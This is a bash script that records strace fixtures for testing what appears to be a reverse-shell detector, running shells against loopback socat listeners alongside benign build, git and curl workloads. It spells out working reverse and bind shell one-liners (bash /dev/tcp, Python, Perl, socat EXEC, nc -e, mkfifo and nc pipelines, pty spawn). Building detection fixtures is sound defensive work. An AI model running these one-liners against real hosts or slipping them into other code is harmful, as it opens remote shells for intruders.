#!/usr/bin/env bash
# gen_fixtures.sh: record the strace captures under tests/fixtures/ again (loopback only).
#   tools/gen_fixtures.sh [OUTDIR [plain|yy|all]]     default tests/fixtures all
# Each remote shell connects to (or is reached from) a socat on 127.0.0.1 that sends "exit", so
# the shell ends at once. The plain captures (NAME.strace.gz) vary strace's time flags so the
# reader sees every form; the -yy ones (NAME.yy.strace.gz, `strace -f -yy -tt`) carry what each fd
# is, for the socket and pipe facts (docs/engine.md, "strace captures"). The benign captures (a
# build, git, dpkg-query; a pipeline, curl from a local http server, make and git) must give no
# detection.
set -euo pipefail
out=${1:-tests/fixtures}
which=${2:-all}
case $which in plain | yy | all) ;; *) echo "usage: $0 [OUTDIR [plain|yy|all]]" >&2; exit 2 ;; esac
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; kill $(jobs -p) 2>/dev/null || true' EXIT
mkdir -p "$out"

port() { echo $((30000 + RANDOM % 20000)); }
listening() { ss -Htln "sport = :$1" | grep -q .; }
wait_listen() { for _ in $(seq 250); do listening "$1" && return 0; sleep 0.02; done; return 1; }

# reverse NAME STRACE_FLAGS COMMAND (PORT in COMMAND is replaced)
reverse() {
	local name=$1 flags=$2 cmd=$3 p
	p=$(port)
	timeout 20 socat TCP-LISTEN:"$p",bind=127.0.0.1,reuseaddr SYSTEM:'echo exit; sleep 0.3' &
	wait_listen "$p"
	timeout 20 strace -f $flags -o "$tmp/$name" sh -c "${cmd//PORT/$p}" </dev/null >/dev/null 2>&1 || true
	wait
	gzip -9n <"$tmp/$name" >"$out/$name.strace.gz"
}

plain_captures() {
	local p
	reverse bash_dev_tcp -t "bash -c 'bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/PORT 0>&1'"
	reverse python_dup2 -tt "/usr/bin/python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"
	reverse perl -ttt "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(PORT,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"
	reverse socat "" "socat TCP:127.0.0.1:PORT EXEC:/bin/sh"

	# a python bind shell, reached by socat
	p=$(port)
	timeout 20 strace -f -tt -o "$tmp/python_bind" /usr/bin/python3 -c "
import socket,os
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('127.0.0.1',$p));s.listen(1)
c,a=s.accept()
for f in (0,1,2): os.dup2(c.fileno(),f)
os.execv('/bin/sh',['sh','-i'])" </dev/null >/dev/null 2>&1 &
	wait_listen "$p"
	(echo exit; sleep 0.3) | timeout 10 socat - TCP:127.0.0.1:"$p" >/dev/null
	wait
	gzip -9n <"$tmp/python_bind" >"$out/python_bind.strace.gz"

	# benign: build a small program, commit it with git, query dpkg
	mkdir "$tmp/w"
	cat >"$tmp/w/hello.c" <<'C'
#include <stdio.h>
int main(void) { puts("hello"); return 0; }
C
	printf 'hello: hello.c\n\tcc -O2 -o hello hello.c\n' >"$tmp/w/Makefile"
	strace -f -tt -o "$tmp/benign" sh -c "cd $tmp/w && make -s && ./hello && git init -q && \
		git add . && git -c user.name=t -c user.email=t@t commit -qm x && git log --oneline && \
		dpkg-query -W bash coreutils" </dev/null >/dev/null 2>&1
	gzip -9n <"$tmp/benign" >"$out/benign_workload.strace.gz"
}

# listen PORT COMMAND: a socat on 127.0.0.1:PORT that runs COMMAND for its one client.
listen() {
	timeout 20 socat TCP-LISTEN:"$1",bind=127.0.0.1,reuseaddr SYSTEM:"$2" &
	wait_listen "$1"
}

# yy NAME COMMAND: `strace -f -yy -tt` of `sh -c COMMAND` run in an empty directory, then wait
# for the listeners.
yy() {
	rm -rf "$tmp/run" && mkdir "$tmp/run"
	(cd "$tmp/run" && timeout 20 strace -f -yy -tt -o "$tmp/$1" sh -c "$2" </dev/null \
		>/dev/null 2>&1) || true
	wait
	gzip -9n <"$tmp/$1" >"$out/$1.yy.strace.gz"
}

yy_captures() {
	local p p2 nc=nc.traditional
	p=$(port); listen "$p" 'echo exit; sleep 0.3'
	yy bash_dev_tcp "bash -c 'bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$p 0>&1'"
	p=$(port); listen "$p" 'echo exit; sleep 0.3'
	yy nc_e "$nc -e /bin/sh 127.0.0.1 $p"
	p=$(port); listen "$p" 'echo exit; sleep 0.3'
	yy mkfifo_relay "rm -f f; mkfifo f; /bin/sh -i < f 2>&1 | $nc 127.0.0.1 $p > f"
	# the shell's input from the first listener, its output to the second; "exit" only once both
	# connections are up, so the shell is alive when they are made
	p=$(port); p2=$(port)
	[ "$p" != "$p2" ] || p2=$((p + 1))
	listen "$p" "until ss -Htn state established 'dport = :$p2' | grep -q .; do sleep 0.05; done
		echo exit; sleep 0.3"
	listen "$p2" 'sleep 2'
	yy nc_pipeline "$nc 127.0.0.1 $p | /bin/sh | $nc 127.0.0.1 $p2"
	p=$(port); listen "$p" 'echo exit; sleep 0.3'
	yy python_pty "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",$p));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"

	# benign: a pipeline, a page from a local http server with curl, make and git
	rm -rf "$tmp/www" "$tmp/b" && mkdir "$tmp/www" "$tmp/b"
	echo hello >"$tmp/www/index.html"
	p=$(port)
	(cd "$tmp/www" && exec timeout 30 /usr/bin/python3 -m http.server --bind 127.0.0.1 "$p") \
		>/dev/null 2>&1 &
	local srv=$!
	wait_listen "$p"
	printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' >"$tmp/b/hi.c"
	printf 'hi: hi.c\n\tcc -O2 -o hi hi.c\n' >"$tmp/b/Makefile"
	local cmd="ls -l / | sort | head -n 3; curl -s http://127.0.0.1:$p/ | wc -c; make -s && ./hi"
	cmd+=" && git init -q && git add . && git -c user.name=t -c user.email=t@t commit -qm x"
	cmd+=" && git log --oneline | cat"
	(cd "$tmp/b" && strace -f -yy -tt -o "$tmp/benign_yy" sh -c "$cmd" </dev/null >/dev/null 2>&1)
	kill "$srv" 2>/dev/null || true
	wait
	gzip -9n <"$tmp/benign_yy" >"$out/benign_workload.yy.strace.gz"
}

[ "$which" = yy ] || plain_captures
[ "$which" = plain ] || yy_captures
ls -l "$out"
